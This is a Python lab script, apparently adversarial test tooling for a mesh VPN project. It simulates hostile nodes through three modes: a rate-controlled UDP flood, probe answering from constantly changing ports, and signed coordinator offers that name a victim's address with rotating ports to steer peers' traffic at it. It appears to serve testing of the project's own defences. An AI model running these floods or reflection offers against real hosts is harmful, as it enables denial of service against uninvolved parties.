"""What a stranger, and a member that turned hostile, send about ways; run by path inside a lab machine.

python path_forge.py flood ENDPOINT SECONDS RATE HEX...   datagrams by turns; prints how many left, how many came back
python path_forge.py flee STATE PEER ENDPOINT SECONDS     asks from ever new ports, and answers truly from each of them
python path_forge.py name STATE PEER VICTIM SECONDS       offers that name ever new ports of somebody else

STATE is the state directory of the member's daemon, which does not run meanwhile; PEER the id of the device attacked.
"""

from __future__ import annotations

import asyncio
import contextlib
import selectors
import socket
import sys
import time
from collections import deque
from pathlib import Path

from meshnet.core.identity import wireguard_public
from meshnet.core.probes import Kind, Pair, Probe
from meshnet.core.records import Offer, sign, text_of
from meshnet.daemon.control_client import ControlClient
from meshnet.daemon.model import Model
from meshnet.daemon.store import Store
from meshnet.errors import MeshnetError

_SOCKETS = 30
_FLEE_EVERY, _OFFER_EVERY = 0.05, 0.2
_BATCH = 0.01


def pair_of(model: Model, peer: str) -> Pair:
    """What this member and a peer have in common."""
    own = model.state.wireguard_key
    return Pair(own, wireguard_public(own), model.mesh.devices[peer].wireguard)


def _target(endpoint: str) -> tuple[str, int]:
    address, _, port = endpoint.rpartition(":")
    return address, int(port)


def _flood(endpoint: str, seconds: float, rate: float, datagrams: list[bytes]) -> None:
    sent = back = 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.connect(_target(endpoint))
        one.setblocking(False)
        began = time.monotonic()
        while (passed := time.monotonic() - began) < seconds:
            while sent < passed * rate:
                with contextlib.suppress(OSError):
                    one.send(datagrams[sent % len(datagrams)])
                sent += 1
            back += _drain(one)
            time.sleep(_BATCH)
        time.sleep(0.5)
        back += _drain(one)
    print(sent, back)


def _drain(one: socket.socket) -> int:
    count = 0
    with contextlib.suppress(OSError):
        while one.recv(2048):
            count += 1
    return count


def _flee(model: Model, peer: str, endpoint: str, seconds: float) -> None:
    pair, ready, held = pair_of(model, peer), selectors.DefaultSelector(), deque[socket.socket]()
    ports = answers = 0
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        one.connect(_target(endpoint))
        one.send(pair.encode(Probe(Kind.ASK, ports.to_bytes(12))))
        ports += 1
        held.append(one)
        ready.register(one, selectors.EVENT_READ)
        if len(held) > _SOCKETS:
            ready.unregister(held[0])
            held.popleft().close()
        pause = time.monotonic() + _FLEE_EVERY
        while (left := pause - time.monotonic()) > 0:
            answers += sum(_answer(key.fileobj, pair) for key, _ in ready.select(left))
    print(ports, answers)


def _answer(one: object, pair: Pair) -> int:
    assert isinstance(one, socket.socket)
    with contextlib.suppress(OSError):
        probe = pair.decode(one.recv(2048))
        if probe is not None and probe.kind is Kind.ASK:
            one.send(pair.encode(Probe(Kind.ANSWER, probe.nonce, bytes(12))))
            return 1
    return 0


async def _name(model: Model, peer: str, victim: str, seconds: float) -> None:
    told = refused = 0

    async def resolve(host: str) -> list[str]:
        return [host]

    client = ControlClient(model.coordinator, mark=None, resolve=resolve)
    await client.login(model.key)
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        ports = (1024 + (8 * (told + refused) + one) % 60000 for one in range(8))
        offer = Offer(
            mesh=model.mesh.mesh_id,
            device=model.me,
            peer=peer,
            seq=time.time_ns() // 1_000_000,
            candidates=tuple(f"{victim}:{port}" for port in ports),
        )
        try:
            await client.meet(sign(text_of(offer), model.key))
            told += 1
        except MeshnetError:
            refused += 1
        await asyncio.sleep(_OFFER_EVERY)
    await client.close()
    print(told, refused)


def main() -> None:
    """Do what the words say."""
    verb, *words = sys.argv[1:]
    if verb == "flood":
        _flood(words[0], float(words[1]), float(words[2]), [bytes.fromhex(word) for word in words[3:]])
        return
    model = Model(Store(Path(words[0])), "linux")
    if verb == "flee":
        _flee(model, words[1], words[2], float(words[3]))
    else:
        asyncio.run(_name(model, words[1], words[2], float(words[3])))


if __name__ == "__main__":
    main()
